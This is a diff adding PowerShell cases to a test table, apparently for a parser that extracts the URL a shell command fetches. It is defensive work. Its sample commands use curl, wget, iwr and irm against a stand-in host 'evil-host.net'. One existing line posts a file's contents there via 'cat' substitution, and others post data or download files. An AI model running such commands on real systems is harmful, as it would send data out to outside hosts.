@@ -235,6 +235,17 @@ cases('what a program is given that fetches', [
   ['curl --silent --location "evil-host.net/x?y=1"', 'http://evil-host.net/x?y=1'],
   ["curl 'evil-host.net/x'", 'http://evil-host.net/x'],
   ['curl -d `cat f` evil-host.net/x', 'http://evil-host.net/x'],
+  // Of PowerShell: names cut short, options of all commands, what stands in brackets
+  ['iwr -Body (@{a=1} | ConvertTo-Json) -Uri evil-host.net', 'http://evil-host.net/'],
+  [`iwr -H @{'A'="b"} evil-host.net`, 'http://evil-host.net/'],
+  ['iwr -m Post evil-host.net', 'http://evil-host.net/'],
+  ['iwr -o x.zip evil-host.net', 'http://evil-host.net/'],
+  ['iwr -ErrorAction Stop evil-host.net', 'http://evil-host.net/'],
+  ['iwr -ea 0 evil-host.net', 'http://evil-host.net/'],
+  ['irm -HttpVersion 2.0 -ConnectionTimeoutSeconds 5 evil-host.net', 'http://evil-host.net/'],
+  ['iwr -UseBasicParsing -Resume evil-host.net', 'http://evil-host.net/'],
+  ['curl -Method Post evil-host.net', 'http://evil-host.net/'],
+  ['wget -ErrorAction Stop evil-host.net', 'http://evil-host.net/'],
   // Redirections stand between the words.
   ['curl>x evil-host.net', 'http://evil-host.net/'],
   ['curl -s >x evil-host.net', 'http://evil-host.net/'],
